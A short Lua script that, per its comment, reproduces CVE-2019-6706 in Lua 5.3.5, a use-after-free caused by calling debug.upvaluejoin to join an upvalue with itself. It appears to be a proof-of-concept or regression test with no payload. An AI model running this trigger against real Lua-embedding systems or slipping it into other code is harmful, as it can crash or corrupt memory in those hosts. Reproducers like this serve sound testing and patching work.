-- Lua 5.3.5, CVE-2019-6706: joining an upvalue with itself uses it after it was freed.
local loaded = load(function() end)
local kept = { [0] = string.rep("A", 512) }
debug.upvaluejoin(loaded, 1, loaded, 1)
print(#kept[0])
